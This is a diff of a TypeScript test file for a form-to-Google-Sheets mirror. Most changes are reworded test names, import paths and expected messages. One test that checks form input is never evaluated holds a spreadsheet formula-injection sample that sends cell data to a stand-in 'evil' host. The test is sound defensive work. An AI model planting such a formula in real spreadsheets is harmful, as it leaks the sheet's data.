@@ -1,8 +1,8 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { ApplyResult, Target } from '../../../src/mirror/target.ts';
 import { ExactNumber, type PickedField, type Row } from '../../../src/mirror/types.ts';
-import type { Stored } from '../../../src/sandbox/sheets-api/inspect.ts';
-import type { Person } from '../../../src/sandbox/sheets-api/people.ts';
+import type { Stored } from '../../../packages/google-sheets-emulator/test/support/inspect.ts';
+import type { Person } from '../../../packages/google-sheets-emulator/test/support/people.ts';
 import { AT_ONCE, field, fieldList, FORM, row } from '../../contract/target-harness.ts';
 import { SleepersClock, type SheetsPlace, sheetsPlace } from './sheets-place.ts';
 
@@ -109,7 +109,7 @@ describe('complaints about mirrors in sheets', () => {
     expect(line('unknown')).toEqual(['unknown', expect.any(Number), 'NEW', 'Eve', 'Praha']);
   });
 
-  it('C7: a header that somebody renamed is no error, and stays theirs when the form renames the field', async () => {
+  it('C7: a header that people renamed is no error, and stays theirs when the form renames the field', async () => {
     await mirror(people);
     person.renameColumn(3, 'Our word for it');
     await mirror(people, [{ ...NAME, label: 'Your name' }, CITY]);
@@ -178,7 +178,7 @@ describe('complaints about mirrors in sheets', () => {
     expect(grid().map((cells) => cells[3])).toEqual(['Full name', 'Ada 4', 'Bob', 'Cyd']);
   });
 
-  it('C14: nothing that a stranger typed into the form is ever evaluated', async () => {
+  it('C14: nothing that anyone typed into the form is ever evaluated', async () => {
     const evil = [
       '=IMPORTDATA("http://evil/?"&B2)',
       '+1+1',
@@ -219,6 +219,7 @@ describe('complaints about mirrors in sheets', () => {
     expect(await mirror([answers('long', 'x'.repeat(60_000)), answers('ok', 'y')])).toMatchObject({
       outcomes: ['unchanged', 'unchanged'],
       newRejections: 0,
+      forgotten: new Set(),
     });
   });
 
@@ -312,7 +313,7 @@ describe('complaints about mirrors in sheets', () => {
     expect(grid('Sheet1')).toEqual(first);
   });
 
-  it('a row that somebody copied is told of and left alone; one that somebody deleted comes back', async () => {
+  it('a row that people copied is reported and left alone; one that they deleted comes back', async () => {
     await mirror(people);
     person.duplicateRow(1);
     person.type(2, 4, 'my version');
@@ -327,10 +328,10 @@ describe('complaints about mirrors in sheets', () => {
       ['s3', 'Praha'],
     ]);
     const copies = (await target.check()).find((one) => one.message.includes('repeats'));
-    expect(copies?.message).toContain('one row repeats another');
+    expect(copies?.message).toContain('row 3 repeats row 2');
   });
 
-  it('a column that somebody deleted stays gone, is listed, and comes back when asked for', async () => {
+  it('a column that people deleted stays gone, is listed, and comes back when asked for', async () => {
     await mirror(people);
     person.deleteColumns(4);
     await mirror([answers('s1', 'Ada', 'Brno'), ...people.slice(1)]);
@@ -350,7 +351,7 @@ describe('complaints about mirrors in sheets', () => {
     await expect(mirror(people)).rejects.toMatchObject({
       code: 'TARGET_FAILED',
       retryable: false,
-      message: expect.stringMatching(/deleted the column with the submission IDs.*Version history/),
+      message: expect.stringMatching(/column of submission IDs was deleted.*Version history/),
     });
     expect(grid()).toEqual(before);
   });
